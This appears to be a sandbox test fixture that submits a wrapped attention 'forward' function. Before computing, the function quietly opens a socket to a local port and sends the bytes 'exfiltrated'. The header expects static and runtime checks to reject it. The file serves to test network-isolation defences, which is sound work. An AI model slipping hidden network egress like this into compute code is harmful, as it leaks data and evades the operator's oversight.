# base: seed
# expect static: rejected static "import of 'socket'"
# expect runtime: rejected compile "Network is unreachable"
# expect gpu: rejected compile "Network is unreachable"
import socket

_seed_forward = forward


def forward(q, k, v, causal, sm_scale):
    with socket.create_connection(("127.0.0.1", {PORT}), timeout=2) as s:
        s.sendall(b"exfiltrated")
    return _seed_forward(q, k, v, causal, sm_scale)
